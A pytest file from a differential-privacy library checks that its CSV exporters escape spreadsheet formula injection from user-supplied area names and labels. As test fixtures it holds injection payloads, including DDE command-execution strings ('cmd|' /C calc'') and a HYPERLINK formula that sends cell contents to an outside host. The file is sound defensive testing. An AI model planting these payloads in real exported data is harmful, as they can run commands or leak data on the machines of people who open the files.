"""CSV formula injection (issue 18, item 4): no CSV export lets a spreadsheet run a cell.

Area codes, area names, attribute values and query labels come from the curator's files, made by
anyone.  A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return (or a full-width
``＝ ＋ － ＠``, or whitespace before a sign) is a formula to a spreadsheet.  Every CSV writer is fed
such text and must write it escaped (a leading single quote, the field quoted by the writer as any
other); no text of one cell can unescape another; numbers stay numbers; safe inputs give the bytes
they always gave.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from areas_helpers import plan_census, plan_hierarchy
from flows_helpers import plan_od
from points_helpers import plan_points

import dpcore
from dpcore import pipeline
from dpcore.areas import area_sets, census_tables, export
from dpcore.areas.counts import HierarchyCounts
from dpcore.areas.mechanisms import census_matrix as marginals
from dpcore.areas.mechanisms import census_privelet
from dpcore.data.csv_safe import csv_bytes, is_formula
from dpcore.data.domain import Aggregate, Bounds, Grid
from dpcore.data.hierarchy import Hierarchy
from dpcore.flows import export as fexport
from dpcore.flows.counts import ODCounts
from dpcore.points import export as pexport
from dpcore.points.workload_io import parse_rectangles
from dpcore.privacy import budget
from dpcore.privacy.ledger import Ledger
from dpcore.privacy.noise import NoiseSource

EVIL = ["=HYPERLINK(\"http://x.test/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)", "\t=1", " \t=2"]  # "\r=2": below
#: full-width signs and whitespace before a sign, which some spreadsheets also run
WIDE = ["\uff1dSUM(1,2)", "\uff0b1", "\uff0d1", "\uff20A", " =1+2", "  @SUM(1)", "\u3000=1", "\u2003-1", " \uff1d1"]


def fields(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_no_formula(data: bytes, numeric: set[str] = frozenset()) -> None:
    """No field could run as a formula unless it is a number in a numeric column, and no field
    holds another field's text (every row has the header's width)."""
    rows = fields(data)
    head = rows[0]
    for name in head:
        assert not is_formula(name), name
    for row in rows[1:]:
        for name, v in zip(head, row, strict=True):
            if is_formula(v):
                assert name in numeric, (name, v)
                float(v)  # a number, written as one


def test_helper_escapes_text_keeps_numbers_and_safe_bytes() -> None:
    df = pd.DataFrame({"code": ["E1", *EVIL], "n": [4, -3, 2, -1, 0, 5, -6], "x": np.linspace(-1, 1, 7)})
    for write in (lambda d: d.to_csv(index=False).encode(),
                  lambda d: d.to_csv(index=False, float_format="%.6g", lineterminator="\r\n").encode()):
        out = csv_bytes(df, write)
        assert_no_formula(out, {"n", "x"})
        back = pd.read_csv(io.BytesIO(out), keep_default_na=False)
        assert back["code"].tolist() == ["E1", *("'" + v for v in EVIL)]
        assert back["n"].tolist() == df["n"].tolist() and back["n"].dtype.kind == "i"
        assert b"\n-3," not in out and b",-3," in out  # the negative number unquoted
        safe = df.assign(code=[f"A{i}" for i in range(7)])
        assert csv_bytes(safe, write) == write(safe)
    hdr = csv_bytes(pd.DataFrame({"=evil": [1], "a,=b": [2]}), lambda d: d.to_csv(index=False).encode())
    assert hdr == b"'=evil,\"a,=b\"\n1,2\n"


def _writers() -> list:
    """The writers the exporters use: pandas (two formats) and pyarrow quoting as needed."""
    import pyarrow as pa
    import pyarrow.csv as pacsv

    def arrow(d: pd.DataFrame) -> bytes:
        buf = io.BytesIO()
        pacsv.write_csv(pa.Table.from_pandas(d, preserve_index=False), buf, pacsv.WriteOptions(quoting_style="needed"))
        return buf.getvalue()

    return [lambda d: d.to_csv(index=False).encode(),
            lambda d: d.to_csv(index=False, float_format="%.6g", lineterminator="\r\n").encode(), arrow]


def test_no_cell_unescapes_another() -> None:
    """Text that looks like the helper's internals (an earlier version wrote placeholders
    ``DPCSVESCAPED<i>_`` and substituted them back) cannot turn into an unescaped formula."""
    bad = ["=HYPERLINK(1)", "DPCSVESCAPED0_,=cmd|' /C calc'!A0", "DPCSVESCAPED0_", "x\"DPCSVESCAPED1_\"",
           "DPCSVESCAPEDX0_", "safe"]
    df = pd.DataFrame({"name": bad, "group": ["=g", "DPCSVESCAPED0_", "-", "DPCSVESCAPED2_", "@", "g"],
                       "n": range(6)})
    for write in _writers():
        out = csv_bytes(df, write)
        assert_no_formula(out, {"n"})
        back = [r[:2] for r in fields(out)[1:]]
        assert back == [[("'" + v) if is_formula(v) else v for v in pair]
                        for pair in zip(df["name"], df["group"], strict=True)]


def test_line_breaks_inside_cells() -> None:
    """Python's csv writer (pandas) does not quote a bare carriage return, which a reader takes as
    the end of a row: text after any line break in a cell is escaped too, so no line of the file
    starts a formula whatever the writer quotes."""
    cells = ["a\r=cmd|' /C calc'!A0", "b\n@SUM(1)", "c\r\n+1", "d\r -1", "\r=2", "e\nf", "=x\r=y"]
    df = pd.DataFrame({"code": cells, "n": range(len(cells))})
    for write in _writers():
        out = csv_bytes(df, write)
        for row in fields(out):
            assert not any(is_formula(v) for v in row), row
        for line in out.decode().splitlines():
            assert not is_formula(line), line
    out = csv_bytes(df, _writers()[2])  # pyarrow quotes line breaks: the cells read back
    assert [r[0] for r in fields(out)[1:]] == ["a\r'=cmd|' /C calc'!A0", "b\n'@SUM(1)", "c\r\n'+1", "d\r' -1",
                                               "'\r'=2", "e\nf", "'=x\r'=y"]


def test_full_width_and_leading_space_signs() -> None:
    df = pd.DataFrame({"code": ["E1", *WIDE, " Leeds", "\uff21"], "n": range(len(WIDE) + 3)})
    for write in _writers():
        out = csv_bytes(df, write)
        assert_no_formula(out, {"n"})
        back = [r[0] for r in fields(out)[1:]]
        assert back == ["E1", *("'" + v for v in WIDE), " Leeds", "\uff21"]
    safe = pd.DataFrame({"code": ["E1", " Leeds", "a=b", "\uff21"], "n": [1, -2, 3, 4]})
    for write in _writers():
        assert csv_bytes(safe, write) == write(safe)


def test_points_release_csv_is_unchanged() -> None:
    """``release.csv`` of points has no text from files; its bytes are pyarrow's, as before."""
    import pyarrow as pa
    import pyarrow.csv as pacsv

    g = Grid(Bounds(0.0, 0.0, 1.0, 1.0), 4, 4)
    agg = Aggregate(g, np.zeros((4, 4), np.int64), 0, 0, 1, None)
    rel = pipeline.release(plan_points(agg, "identity", 1.0, {}), agg,
                           ledger=Ledger(budget.pure(2.0)), noise=NoiseSource(1)).inner
    buf = io.BytesIO()
    pacsv.write_csv(pa.Table.from_pandas(pexport.release_frame(rel), preserve_index=False), buf,
                    pacsv.WriteOptions(quoting_style="none"))
    out = pexport.release_csv(rel)
    assert out == buf.getvalue()
    assert_no_formula(out, {"noisy_count", "ci95_low", "ci95_high", "west", "east", "south", "north"})


def test_points_workload_answers() -> None:
    names = ["=HYPERLINK(A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)", "=a", "\"DPCSVESCAPED0_,=cmd|' /C calc'!A0\""]
    rects = "".join(f"{v},0,0,0.5,0.5,1,{g}\n"
                    for v, g in zip(names, ["@g", "=g", "g", "-g", "+g", "g"], strict=True))
    params = {"workload": "uploaded",
              "rectangles": parse_rectangles("name,lon_min,lat_min,lon_max,lat_max,weight,group\n" + rects).to_list()}
    g = Grid(Bounds(0.0, 0.0, 1.0, 1.0), 4, 4)
    agg = Aggregate(g, np.zeros((4, 4), np.int64), 0, 0, 1, None)
    rel = pipeline.release(plan_points(agg, "matrix", budget.zcdp(0.5), params), agg,
                           ledger=Ledger(budget.zcdp(1.0)), noise=NoiseSource(2)).inner
    out = pexport.workload_answers_csv(rel)
    rows = fields(out)
    assert rows[1][1] == "'=HYPERLINK(A1)" and rows[1][2] == "'@g" and rows[3][1] == "'-2+3"
    assert rows[6][1] == "DPCSVESCAPED0_,=cmd|' /C calc'!A0"
    assert_no_formula(out, {"answer", "ci95_low", "ci95_high", "west", "east", "south", "north",
                            "lon_min", "lat_min", "lon_max", "lat_max"})


@pytest.fixture(scope="module")
def evil_hierarchy() -> tuple[Hierarchy, HierarchyCounts]:
    df = pd.DataFrame({"s": ["=1+2", "=1+2", "@A"], "c": ["-001", "+002", "=cmd|' /C calc'!A0"], "n": [5, 0, 3]})
    h = Hierarchy.from_frame(df, ["s", "c"], source="table (confirmed public)")
    return h, HierarchyCounts.from_frame(df, h, ["s", "c"], "n")


def test_hierarchy_and_area_sets(evil_hierarchy) -> None:
    h, counts = evil_hierarchy
    sets = area_sets.read_area_sets(b'query,area\n"=SUM(A1:A9)",@A\n-both,=1+2\n', h, "sets.csv")
    for mech, cost, opts in (("hay", budget.zcdp(0.5), {}), ("matrix", budget.zcdp(0.5), {"area_sets": sets})):
        rel = pipeline.release(plan_hierarchy(counts, mech, cost, **opts), counts,
                               ledger=Ledger(budget.zcdp(1.0)), noise=NoiseSource(3)).inner
        out = export.hierarchy_csv(rel)
        codes = {r[1] for r in fields(out)[1:]}
        assert {"'=1+2", "'-001", "'@A"} <= codes
        assert_no_formula(out, {"noisy_count", "noise_sd", "ci95_low", "ci95_high"})
        if mech == "matrix":
            out = area_sets.area_sets_csv(rel)
            assert [r[0] for r in fields(out)[1:]] == ["'=SUM(A1:A9)", "'-both"]
            assert_no_formula(out, {"noisy_total", "ci95_low", "ci95_high"})


def test_census_privelet_and_marginals() -> None:
    df = pd.DataFrame({"state": ["=01"] * 4, "county": ["-001", "-001", "@003", "@003"],
                       "age": ["=a", "+b", "=a", "+b"], "pop": [7, 1, 5, 2]})
    table = census_tables.CensusTable.from_frame(df, ["state", "county"], "pop", ordinals=["age"],
                                                 ordinal_orders={"age": ["=a", "+b"]})
    led = Ledger(budget.zcdp(5.0))
    rel = pipeline.release(plan_census(table, "privelet", budget.pure(1.0)), table,
                           ledger=led, noise=NoiseSource(4)).inner
    out = census_privelet.census_csv(rel)
    rows = fields(out)
    assert "'-001" in {v for r in rows for v in r}
    numeric = {c for c in rows[0] if c not in ("level", "state", "county") and not c.endswith("_name")}
    assert_no_formula(out, numeric)
    p = marginals.plan(table.structure, "county", [(0, 1), (1,)], budget.zcdp(0.5))
    out = marginals.marginals_csv(marginals.release(table, p, NoiseSource(5)))
    cells = {v for r in fields(out) for v in r}
    assert {"'=01/-001", "'=a", "'+b"} <= cells
    assert_no_formula(out, {"noisy_count", "noise_sd", "ci95_low", "ci95_high"})


def test_od_release_csv() -> None:
    areas = pd.DataFrame({"region": ["=R", "=R", "-S"], "zone": ["@1", "+2", "3"]})
    h = Hierarchy.from_frame(areas, ["region", "zone"])
    labs = list(h.labels(h.depth))
    flows = pd.DataFrame({"o": np.repeat(labs, 3), "d": np.tile(labs, 3), "n": np.arange(9) * 10})
    counts = ODCounts.from_frame(flows, h, origin="o", destination="d", count="n")
    rel = pipeline.release(plan_od(counts, "inftda", budget.zcdp(0.5)), counts,
                           ledger=Ledger(budget.zcdp(1.0)), noise=NoiseSource(6)).inner
    out = fexport.release_csv_bytes(rel)
    assert_no_formula(out, {"noisy_count", "noise_sd", "ci95_low", "ci95_high"})
    assert any(v.startswith("'") for r in fields(out)[1:] for v in r[1:3])


def _inside_csv_bytes(tree: ast.AST) -> set[int]:
    """Line numbers of CSV writes that are the ``write`` of a ``csv_bytes`` call."""
    ok: set[int] = set()
    writers: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "csv_bytes" and len(node.args) == 2:
            w = node.args[1]
            if isinstance(w, ast.Lambda):
                ok.update(n.lineno for n in ast.walk(w) if hasattr(n, "lineno"))
            elif isinstance(w, ast.Name):
                writers.add(w.id)
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef) and node.name in writers:
            ok.update(n.lineno for n in ast.walk(node) if hasattr(n, "lineno"))
    return ok


def test_every_csv_writer_goes_through_the_helper() -> None:
    """Every ``to_csv`` / ``write_csv`` / ``csv.writer`` of the library (the CLI's evaluation
    output included) is the ``write`` of a ``csv_bytes`` call."""
    root = Path(dpcore.__file__).parent
    bad = []
    for path in root.rglob("*.py"):
        if path.name == "csv_safe.py":
            continue
        tree = ast.parse(path.read_text("utf-8"))
        ok = _inside_csv_bytes(tree)
        for node in ast.walk(tree):
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in ("to_csv", "write_csv", "writer", "DictWriter")
                    and node.lineno not in ok):
                bad.append(f"{path.relative_to(root)}:{node.lineno}")
    assert not bad, bad


def test_published_text_keeps_its_numbers_and_escapes_the_rest() -> None:
    """A published CSV read back as text (reliability rules, series.csv) keeps ``-3`` a number,
    and a cell that could still run as a formula is escaped."""
    from dpcore.data.csv_safe import csv_bytes

    df = pd.DataFrame({"v": ["-3", "1e-5", "-.5", "=1", "-2+3", "'=1"]})
    out = csv_bytes(df, lambda d: d.to_csv(index=False).encode("utf-8"), numbers_as_text=True).decode()
    assert out.splitlines() == ["v", "-3", "1e-5", "-.5", "'=1", "'-2+3", "'=1"]
    plain = csv_bytes(df, lambda d: d.to_csv(index=False).encode("utf-8")).decode()
    assert plain.splitlines()[1] == "'-3"  # text that is not known to be a number is escaped


def test_arrow_tables_are_escaped_like_frames() -> None:
    """A writer that hands csv_bytes a pyarrow Table gets the same escaping as with a DataFrame."""
    import pyarrow as pa
    import pyarrow.csv as pacsv

    def write(t: pa.Table) -> bytes:
        buf = io.BytesIO()
        pacsv.write_csv(t, buf, pacsv.WriteOptions(quoting_style="needed"))
        return buf.getvalue()

    df = pd.DataFrame({"code": ["E1", *EVIL], "n": [4, -3, 2, -1, 0, 5, -6]})
    out = csv_bytes(pa.Table.from_pandas(df, preserve_index=False), write)
    assert out == csv_bytes(df, lambda d: write(pa.Table.from_pandas(d, preserve_index=False)))
    assert_no_formula(out, {"n"})
    safe = pa.table({"n": np.array([-3, 1]), "family": ["discrete_laplace"] * 2})
    assert csv_bytes(safe, write) == write(safe)  # nothing to escape: the writer's bytes
    assert csv_bytes(pa.table({"=x": [1]}), write).startswith(b"\"'=x\"")


@pytest.mark.parametrize("text", [
    "level,origin,noisy\nstate,44,-3\nblock,440010101001000,2.5e-4\n",  # plain numbers with signs: kept
    "level,origin,noisy\nstate,=1+2,3\n",  # a formula: only the round trip escapes it
    "level,=h,noisy\nstate,44,3\n",  # a formula header name
    'level,origin,noisy\nstate,"a,b",3\n',  # a quoted field
    "level,origin,noisy\nstate,-inf,3\n",  # a sign that is no plain number
    "level,origin,noisy\nstate, +4,3\n",  # space then a sign
    "level,origin\nstate,44,3\n",  # a row longer than the header
    "level,level\nstate,44\n",  # a duplicate name
])
def test_appended_column_matches_the_round_trip(text: str) -> None:
    """``mark_not_accounted``'s shortcut (a column appended line by line) gives the bytes of the
    round trip through pandas, or declines."""
    from dpcore.core.record import NOT_ACCOUNTED_CELL, published_csv_bytes, published_csv_frame
    from dpcore.data.csv_safe import append_constant_column

    data = text.encode()
    quick = append_constant_column(data, "accounted", NOT_ACCOUNTED_CELL, vouched=False)
    if quick is None:
        assert text.count("\n") > 1 and not text.startswith("level,origin,noisy\nstate,44")
        return
    frame = published_csv_frame(data)
    frame["accounted"] = NOT_ACCOUNTED_CELL
    assert quick == published_csv_bytes(frame)
    assert text.startswith("level,origin,noisy\nstate,44")  # only the plain file takes the shortcut


@pytest.mark.parametrize(("text", "plain"), [
    ("noisy,origin\n-3,44\n+.5,-1e5\n", True),  # signed numbers at a line's start and its end
    ("noisy,origin\n-3,44\n-3x,1\n", False),  # a sign not followed by a number to the field's end
    ("noisy,origin\n1,\uff0d4\n", False),  # a full-width minus
    ("noisy,origin\n1,2\n@3,4\n", False),  # an at sign on the last line
])
def test_the_appended_column_scans_every_field_once(text: str, plain: bool) -> None:
    """The fields are checked by one search over the text (not a loop per signed field): a signed
    field anywhere must be a plain number for the shortcut, whose bytes are the round trip's; ``vouched``
    (the O/D writer's pyarrow output) skips the scan and appends the same way."""
    from dpcore.core.record import NOT_ACCOUNTED_CELL, published_csv_bytes, published_csv_frame
    from dpcore.data.csv_safe import append_constant_column

    data = text.encode()
    quick = append_constant_column(data, "accounted", NOT_ACCOUNTED_CELL, vouched=False)
    assert (quick is not None) == plain
    if plain:
        frame = published_csv_frame(data)
        frame["accounted"] = NOT_ACCOUNTED_CELL
        assert quick == published_csv_bytes(frame)
        assert append_constant_column(data, "accounted", NOT_ACCOUNTED_CELL, vouched=True) == quick


def test_appending_a_column_needs_the_caller_to_say_whether_it_vouches() -> None:
    """``vouched`` has no default: a caller passing unchecked bytes cannot fall into either contract
    silently (``True`` skips the field scan, so a wrong vouch would publish a formula unescaped; the
    scan costs about a second on an O/D release of 600,000 rows, which is why its writer vouches)."""
    import inspect

    from dpcore.data.csv_safe import append_constant_column

    assert inspect.signature(append_constant_column).parameters["vouched"].default is inspect.Parameter.empty
    with pytest.raises(TypeError, match="vouched"):
        append_constant_column(b"a,b\n1,2\n", "c", "no")  # type: ignore[call-arg]
    assert append_constant_column(b"a,b\n=1+2,2\n", "c", "no", vouched=False) is None
